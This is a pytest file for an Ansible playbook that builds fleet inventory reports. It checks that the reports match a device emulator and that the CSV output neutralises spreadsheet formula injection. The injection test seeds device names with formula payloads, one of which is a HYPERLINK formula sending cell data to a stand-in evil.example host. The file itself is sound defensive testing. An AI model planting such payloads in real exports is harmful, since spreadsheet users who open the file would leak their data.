# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The inventory_report playbook: a table on screen, JSON and CSV files that match the emulator's truth."""

import csv
import json
import subprocess

from conftest import PASSWORD, ansible_env, inventory_file  # pylint: disable=import-error


def test_report_matches_the_fleet(emulator, tmp_path):
    inventory = inventory_file(tmp_path, platform='magewell', endpoint=emulator.url, username='Admin')
    env = {'FLEETOTA_PLATFORM': 'magewell', 'FLEETOTA_ENDPOINT': emulator.url, 'FLEETOTA_USERNAME': 'Admin', 'FLEETOTA_PASSWORD': PASSWORD}
    proc = subprocess.run(['ansible-playbook', '-i', str(inventory), 'fleetota.cloud.inventory_report', '-e', 'report_dir=%s' % tmp_path,
                           '-e', 'report_rows=5'], capture_output=True, text=True, env=ansible_env(env), timeout=300, cwd=str(tmp_path), check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    truth = dict((device['id'], device) for device in emulator.devices())
    outdated = set(emulator.scenarios()['outdated_online_devices'])

    data = json.loads((tmp_path / 'fleet-report.json').read_text())
    rows = dict((row['id'], row) for row in data['devices'])
    assert set(rows) == set(truth)
    for device_id, row in rows.items():
        assert row['current_version'] == truth[device_id]['firmware_version']
        assert row['online'] == truth[device_id]['online']
        if device_id in outdated:
            assert row['state'] == 'outdated' and row['upgrade_available'] is True
    assert not any(row['state'] == 'outdated' for device_id, row in rows.items() if device_id not in outdated and truth[device_id]['online'])
    # Magewell tells whether a last upgrade failed: none did in the seeded fleet.
    assert all(row['last_upgrade_failed'] is False for row in rows.values())
    assert data['summary']['devices'] == len(truth)
    assert data['firmwares'] and all(fw['released'] for fw in data['firmwares'])

    with open(tmp_path / 'fleet-report.csv', newline='', encoding='utf-8') as handle:
        table = list(csv.DictReader(handle))
    assert sorted(row['id'] for row in table) == sorted(truth)

    shown = '%d device(s), %s%% on the newest version' % (len(truth), data['summary']['compliance_percent'])
    assert shown in proc.stdout
    assert '... and %d more device(s)' % (len(truth) - 5) in proc.stdout
    assert (tmp_path / 'fleet-report.html').read_text().startswith('<!DOCTYPE html>')  # report_html defaults to true
    assert emulator.writes() == {}
    assert PASSWORD not in proc.stdout + proc.stderr


def test_csv_neutralises_formulas_from_the_cloud_and_the_other_files_keep_them(emulator, tmp_path):
    # Device names are the cloud's (anyone who can rename a device writes them); a spreadsheet would run these as formulas.
    names = {'A302190900001': '=HYPERLINK("http://evil.example/?"&A1,"open")', 'A302190900002': '+1+1', 'A302190900003': '-2+3',
             'A302190900004': '@SUM(1+1)', 'A302190900005': '\t=1+1', 'A302190900006': '\r=1+1'}
    for device_id, name in names.items():
        emulator.set_devices([device_id], name=name)
    emulator.set_devices(['A302190900007'], firmware_version='-1')
    inventory = inventory_file(tmp_path, platform='magewell', endpoint=emulator.url, username='Admin')
    env = {'FLEETOTA_PLATFORM': 'magewell', 'FLEETOTA_ENDPOINT': emulator.url, 'FLEETOTA_USERNAME': 'Admin', 'FLEETOTA_PASSWORD': PASSWORD}
    proc = subprocess.run(['ansible-playbook', '-i', str(inventory), 'fleetota.cloud.inventory_report', '-e', 'report_dir=%s' % tmp_path],
                          capture_output=True, text=True, env=ansible_env(env), timeout=300, cwd=str(tmp_path), check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    raw = (tmp_path / 'fleet-report.csv').read_bytes().decode('utf-8')   # as written: no newline translation
    with open(tmp_path / 'fleet-report.csv', newline='', encoding='utf-8') as handle:
        table = dict((row['id'], row) for row in csv.DictReader(handle))
    for device_id, name in names.items():
        assert table[device_id]['name'] == "'" + name
        assert '"\'%s"' % name.replace('"', '""') in raw    # quoted, as OWASP recommends
    assert table['A302190900007']['current_version'] == "'-1"
    assert table['A302190900008']['name'] == 'encoder-0008'   # ordinary cells are unchanged
    data = json.loads((tmp_path / 'fleet-report.json').read_text())
    rows = dict((row['id'], row) for row in data['devices'])
    assert dict((device_id, rows[device_id]['name']) for device_id in names) == names
    assert rows['A302190900007']['current_version'] == '-1'
    page = (tmp_path / 'fleet-report.html').read_text()
    assert '+1+1' in page and "'+1+1" not in page and '@SUM(1+1)' in page
